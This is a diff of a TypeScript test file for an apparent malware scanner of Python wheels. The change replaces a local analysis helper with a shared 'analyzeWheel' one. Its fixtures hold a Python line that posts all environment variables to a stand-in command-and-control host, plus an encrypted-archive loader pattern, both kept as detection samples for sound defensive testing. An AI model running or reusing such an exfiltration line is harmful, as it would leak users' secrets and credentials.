@@ -1,33 +1,13 @@
-import type { AnalysisResult } from '@weir/model';
 import { zip } from '@weir/testkit/archive';
 import { expect, test } from 'vitest';
-import { analyzeArtifact } from '../analyze.ts';
-import { createMemoryView } from '../memory-view.ts';
+import { analyzeWheel } from '../testing/analyze-wheel.ts';
 
 const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
 const PLACE = "os.path.join(os.path.dirname(__file__), 'tables.zip')";
 
-/** The result for a wheel of these files. */
-async function analyze(files: Readonly<Record<string, string | Uint8Array>>): Promise<AnalysisResult> {
-  await using view = createMemoryView({
-    'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
-    ...files,
-  });
-  return analyzeArtifact(
-    view,
-    { ecosystem: 'pypi', filename: 'own-1.0-py3-none-any.whl', context: null },
-    {
-      layout: 'directory',
-      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
-      rulesetVersion: 'test',
-      now: () => performance.now(),
-    },
-  );
-}
-
 /** Rules and files of the threats in a wheel of these files. */
 async function threatsOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
-  const { findings } = await analyze(files);
+  const { findings } = await analyzeWheel(files);
   return findings
     .filter(({ rule }) => rule.startsWith('env-to-network/'))
     .map(({ rule, stage, location }) => `${rule} ${stage} ${location?.file}:${location?.line}`);
@@ -112,9 +92,9 @@ test('what a budget leaves unread of the modules that code imports is told, and 
   const one = zip().file('_tables.py', '').build();
 
   const results = await Promise.all([
-    analyze({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': many.build() }),
-    analyze({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': large }),
-    analyze({
+    analyzeWheel({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': many.build() }),
+    analyzeWheel({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': large }),
+    analyzeWheel({
       'own/__init__.py': importer(packed, '_tables'),
       ...Object.fromEntries(packed.map((name) => [`own/${name}`, one])),
     }),
@@ -150,7 +130,7 @@ test.each([
 
 test('an encrypted archive whose password nobody says is told', async () => {
   const code = `import os, sys, zipfile\nzipfile.ZipFile(${PLACE}).extractall('/tmp/own', pwd=input().encode())\nsys.path.insert(0, '/tmp/own')\nimport _tables\n`;
-  const { judgement, skipped } = await analyze({ 'own/__init__.py': code, 'own/tables.zip': LOCKED });
+  const { judgement, skipped } = await analyzeWheel({ 'own/__init__.py': code, 'own/tables.zip': LOCKED });
 
   expect(skipped.map(({ file }) => file)).toEqual(['own/tables.zip!/_tables.py']);
   expect(judgement.complete).toBe(false);
